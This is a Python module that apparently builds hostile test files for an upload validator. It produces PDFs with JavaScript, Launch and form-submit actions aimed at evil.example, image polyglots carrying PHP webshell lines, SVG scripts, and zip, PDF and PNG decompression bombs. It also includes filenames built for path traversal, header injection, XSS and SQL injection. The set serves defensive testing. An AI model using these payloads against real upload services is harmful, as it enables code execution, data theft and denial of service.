"""Eighty files that want more than to be looked at, made as they are asked for."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image, PngImagePlugin

MARK = b"EVIL<script>"


def drawn(kind: str = "PNG", size: tuple[int, int] = (30, 20), **more) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#7a2e5d").save(out, kind, **more)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def claims(width: int, height: int, depth: int = 8) -> bytes:
    """A few bytes that say they are a huge picture."""
    head = struct.pack(">IIBBBBB", width, height, depth, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def with_chunk(name: bytes, body: bytes) -> bytes:
    whole = drawn()
    return whole[:33] + chunk(name, body) + whole[33:]


def with_segment(marker: int, body: bytes) -> bytes:
    whole = drawn("JPEG")
    return whole[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + whole[2:]


def zipped(name: str, body: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(name, body)
    return out.getvalue()


def pdf(*objects: bytes, tail: bytes = b"\n%%EOF\n") -> bytes:
    numbered = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, 1))
    return b"%PDF-1.7\n" + numbered + b"trailer <</Root 1 0 R>>" + tail


def packed(body: bytes, more: bytes = b"/Filter /FlateDecode", pack: Callable = zlib.compress):
    inside = pack(body)
    head = b"<</Type /ObjStm /N 1 /First 4 /Length %d %s>>" % (len(inside), more)
    return head + b"\nstream\n" + inside + b"\nendstream"


def documents() -> Iterator[tuple[str, bytes]]:
    """PDFs that act, and what pretends to be one."""
    catalog = b"<</Type /Catalog %s>>"
    for name in (
        b"/OpenAction <</S /JavaScript /JS (EVIL)>>", b"/OpenAction <</S /J#61vaScript /J#53 (E)>>",
        b"/AA <</O <</S /JavaScript /JS 2 0 R>>>>", b"/OpenAction <</S /Launch /F (cmd.exe)>>",
        b"/Names <</EmbeddedFiles 2 0 R>>", b"/AcroForm <</XFA 2 0 R>>",
        b"/OpenAction <</S /SubmitForm /F (https://evil.example)>>",
        b"/OpenAction <</S /ImportData /F (x)>>", b"/OpenAction <</S /GoToE /T <<>>>>",
        b"/OpenAction <</S /GoToR /F (\\\\\\\\evil\\\\x)>>", b"/Annots [<</Subtype /RichMedia>>]",
        b"/Annots [<</Subtype /Movie>>]", b"/Annots [<</Subtype /Sound>>]",
        b"/OpenAction <</S /Rendition /JS (E)>>", b"/Encrypt 2 0 R",
        b"/AF [<</Type /Filespec /EF <<>>>>]",
    ):  # fmt: skip
        yield f"pdf {name[:34].decode()}", pdf(catalog % name)
    hidden = b"1 0 <</S /JavaScript /JS (EVIL)>>"
    yield "pdf script in a packed object", pdf(catalog % b"", packed(hidden))
    yield "pdf script packed in hex", pdf(packed(hidden, b"/Filter /ASCIIHexDecode", _hex))
    yield "pdf packed twice", pdf(packed(hidden, b"/Filter [/ASCII85Decode /FlateDecode]"))
    yield (
        "pdf packed behind a predictor",
        pdf(packed(hidden, b"/Filter /FlateDecode /Predictor 12")),
    )
    yield "pdf packed and broken", pdf(packed(hidden, pack=lambda body: b"\x00" + body))
    yield "pdf bomb", pdf(packed(b"0" * (70 * 1024 * 1024)))
    yield "pdf and zip", pdf(catalog % b"", tail=b"\n%%EOF\n" + zipped("a.exe", b"MZ"))
    yield "pdf and page", pdf(catalog % b"", tail=b"\n%%EOF\n<html>" + MARK)
    yield "pdf without an end", b"%PDF-1.7\n" + MARK
    yield "pdf after a page", b"<html>" + MARK + pdf(catalog % b"")


def _hex(body: bytes) -> bytes:
    return body.hex().encode() + b">"


def pictures() -> Iterator[tuple[str, bytes]]:
    """What comes with a picture, claims to be one, or is none."""
    for kind in ("PNG", "JPEG", "WEBP"):
        whole = drawn(kind)
        yield f"{kind} and php", whole + b"<?php system('id') ?>" + MARK
        yield f"{kind} and page", whole + b"<html>" + MARK
        yield f"{kind} and zip", whole + zipped("x", MARK)
        yield f"{kind} cut short", whole[: len(whole) // 2]
        yield f"{kind} head alone", whole[:16]
    for name in (b"tEXt", b"iTXt", b"eXIf", b"iCCP"):
        yield f"png {name.decode()}", with_chunk(name, b"Comment\0" + MARK)
    bomb = zlib.compress(b"0" * (40 * 1024 * 1024), 9)
    yield "png text bomb", with_chunk(b"zTXt", b"Comment\0\0" + bomb)
    yield "png profile bomb", with_chunk(b"iCCP", b"x\0\0" + bomb)
    for marker in (0xE1, 0xE2, 0xED, 0xFE):
        yield f"jpeg segment {marker:x}", with_segment(marker, b"Exif\0\0" + MARK)
    info = PngImagePlugin.PngInfo()
    info.add_text("XML:com.adobe.xmp", MARK.decode())
    yield "png xmp", drawn(pnginfo=info)
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (6_400, 6_400), (0, 5), (40_001, 1000)):
        yield f"png claims {width} by {height}", claims(width, height)
    for kind in ("GIF", "BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "EPS", "PDF"):
        yield f"{kind} is no photo", drawn(kind)
    yield "empty of sense", b"\0" * 4096
    yield "svg script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>EVIL</script></svg>'
    yield "svg load", b'<svg xmlns="http://www.w3.org/2000/svg" onload="EVIL"/>'
    yield "svg entities", b'<!DOCTYPE s [<!ENTITY a "EVIL">]><svg>&a;</svg>'
    yield "page", b"<html><body>" + MARK
    yield "php", b"<?php system($_GET['c']);" + MARK
    yield "program", b"MZ" + b"\0" * 58 + b"PE\0\0" + MARK
    yield "elf", b"\x7fELF" + b"\0" * 60 + MARK
    yield "script", b"#!/bin/sh\nid\n" + MARK
    yield "zip", zipped("../../etc/passwd", MARK)
    yield "zip bomb", zipped("0", b"0" * (30 * 1024 * 1024))
    yield "gif and script", b"GIF89a/*" + MARK + b"*/=1;alert(1)"
    yield "too heavy", drawn() + b"0" * (10 * 1024 * 1024)
    yield "mvg", b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/EVIL'"


NAMES = (
    "../../etc/passwd", "..\\..\\boot.ini", "/etc/cron.d/x", "C:\\windows\\x.jpg", "a\0.jpg.php",
    "a.php;.jpg", "a.jpg\r\nSet-Cookie: x=1", "\u202egpj.exe", ".htaccess", "CON", "x" * 5000,
    "<img src=x onerror=alert(1)>.jpg", "'; drop table incident; --.jpg", "|id.jpg", "%2e%2e%2fx",
    "photo 😱 مرحبا.jpg",
)  # fmt: skip
